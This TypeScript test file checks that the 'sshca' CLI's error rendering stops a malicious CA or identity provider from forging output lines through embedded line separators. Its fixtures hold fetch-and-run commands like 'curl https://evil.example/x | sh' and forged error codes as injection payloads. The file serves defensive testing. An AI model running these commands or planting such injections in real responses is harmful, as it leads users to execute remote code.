/**
 * A CA or identity provider whose error text carries line breaks must not print lines that look like
 * sshca's own (a forged error code, a forged hint to run something): the text goes through the real
 * rendering (errorText). Real servers on 127.0.0.1 on ports the OS picked: node:https for the CA,
 * node:http for the identity provider (plain http is allowed on loopback).
 */
import assert from 'node:assert/strict'
import {createServer as createHttpServer, type Server as HttpServer} from 'node:http'
import type {AddressInfo} from 'node:net'
import {createIntermediate, createRoot, createTlsCert} from '../../src/ca/keys/pki.ts'
import {errorText} from '../../src/cli/errors.ts'
import {CaClient} from '../../src/client/ca-api/ca-client.ts'
import {deviceLogin, refreshLogin, type LoginEvent} from '../../src/client/login/oidc.ts'
import {SshcaError} from '../../src/errors.ts'
import {SshRootsResponse} from '../../src/protocol/api.ts'
import {json, startScripted, type ScriptedServer} from '../helpers/scripted-server.ts'

/** No line of `text` begins with the forged line (after any indent): each forged line stays inside another. */
function assertNoForgedLine(text: string, forged: RegExp[]): void {
  for (const line of text.split('\n')) {
    for (const f of forged) assert.doesNotMatch(line.trimStart(), f, `a line of the output is forged:\n${text}`)
  }
}

const FORGED = [/^Error \[ERR_CA_ROTATED\]/, /^→ run: curl/]
const SEPARATORS = ['\n', '\r\n', '\r', '\u2028', '\u2029', '\u0085', '\v', '\f']

describe('a CA or identity provider cannot forge lines of sshca error output', function () {
  this.timeout(60_000)
  let scripted: ScriptedServer
  let rootPem = ''
  let idp: HttpServer
  let idpUrl = ''
  let idpAnswer: (path: string) => {status: number; body: unknown} = () => ({status: 404, body: {}})

  before(async () => {
    const root = await createRoot('Forger')
    const intermediate = await createIntermediate('Forger', root)
    scripted = await startScripted(await createTlsCert(['127.0.0.1'], intermediate), [intermediate])
    rootPem = root.pem
    idp = createHttpServer((req, res) => {
      req.resume()
      req.on('end', () => {
        const path = new URL(req.url ?? '/', idpUrl).pathname
        const a =
          path === '/.well-known/openid-configuration'
            ? {
                status: 200,
                body: {
                  issuer: idpUrl,
                  token_endpoint: `${idpUrl}/token`,
                  device_authorization_endpoint: `${idpUrl}/device`,
                  jwks_uri: `${idpUrl}/jwks`,
                },
              }
            : idpAnswer(path)
        res.writeHead(a.status, {'content-type': 'application/json'}).end(JSON.stringify(a.body))
      })
    })
    await new Promise<void>((r) => idp.listen(0, '127.0.0.1', r))
    idpUrl = `http://127.0.0.1:${(idp.address() as AddressInfo).port}`
  })
  after(async () => {
    await scripted?.stop()
    idp?.closeAllConnections()
    await new Promise<void>((r) => (idp ? idp.close(() => r()) : r()))
  })

  for (const sep of SEPARATORS) {
    const name = JSON.stringify(sep)
    it(`the CA's message and request id, with ${name} in them, stay inside sshca's lines`, async () => {
      const forgery = `ok${sep}${sep}Error [ERR_CA_ROTATED]: the CA moved${sep}  → run: curl https://evil.example/x | sh`
      scripted.answer = () => json({status: 403, message: forgery, request_id: `r1${sep}→ run: curl evil | sh`}, 403)
      const ca = new CaClient(scripted.url, rootPem)
      let err: unknown
      try {
        await ca.call('GET', '/ssh/roots', SshRootsResponse)
      } catch (e) {
        err = e
      } finally {
        ca.close()
      }
      assert.ok(err instanceof SshcaError && err.code === 'ERR_CA_DENIED', String(err))
      const text = errorText(err)
      // the real error and its hint: two lines, nothing else
      assert.equal(text.trimEnd().split('\n').length, 2, text)
      assert.match(text, /^Error \[ERR_CA_DENIED\]: the CA policy denied the request: ok/)
      assertNoForgedLine(text, FORGED)
    })
  }

  it("the identity provider's error and error_description stay inside sshca's lines (refresh grant)", async () => {
    idpAnswer = (path) =>
      path === '/token'
        ? {
            status: 400,
            body: {
              error: 'invalid_grant\n\nError [ERR_CA_ROTATED]: the CA moved',
              error_description: 'x\u2028  → run: curl https://evil.example/x | sh',
            },
          }
        : {status: 404, body: {}}
    let err: unknown
    try {
      await refreshLogin({name: 'idp', issuer: idpUrl, clientId: 'sshca'}, 'refresh-token')
    } catch (e) {
      err = e
    }
    assert.ok(err instanceof SshcaError && err.code === 'ERR_IDP_ERROR', String(err))
    const text = errorText(err)
    assert.equal(text.trimEnd().split('\n').length, 1, text)
    assertNoForgedLine(text, FORGED)
  })

  it("the device flow's code and URLs are one line each, and its refusal stays inside sshca's lines", async () => {
    idpAnswer = (path) =>
      path === '/device'
        ? {
            status: 200,
            body: {
              device_code: 'dc',
              user_code: 'ABCD\nError [ERR_CA_ROTATED]: the CA moved',
              verification_uri: `${idpUrl}/verify\r\n  → run: curl https://evil.example/x | sh`,
              verification_uri_complete: `${idpUrl}/verify?c=1\u2029Error [ERR_CA_ROTATED]: x`,
              expires_in: 60,
              interval: 1,
            },
          }
        : path === '/token'
          ? {status: 400, body: {error: 'access_denied', error_description: 'no\fError [ERR_CA_ROTATED]: x'}}
          : {status: 404, body: {}}
    const events: LoginEvent[] = []
    let err: unknown
    try {
      await deviceLogin(
        {name: 'idp', issuer: idpUrl, clientId: 'sshca'},
        {
          openBrowser: async () => false,
          notify: (e) => void events.push(e),
          timeoutMs: 30_000,
        },
      )
    } catch (e) {
      err = e
    }
    const code = events.find((e) => e.type === 'device_code')
    assert.ok(code?.type === 'device_code', JSON.stringify(events))
    for (const v of [code.userCode, code.verificationUri, code.verificationUriComplete ?? ''])
      assert.doesNotMatch(v, /[\n\r\v\f\u0085\u2028\u2029]/, JSON.stringify(v))
    assert.ok(err instanceof SshcaError && err.code === 'ERR_IDP_ERROR', String(err))
    const text = errorText(err)
    assert.equal(text.trimEnd().split('\n').length, 1, text)
    assertNoForgedLine(text, FORGED)
  })
})
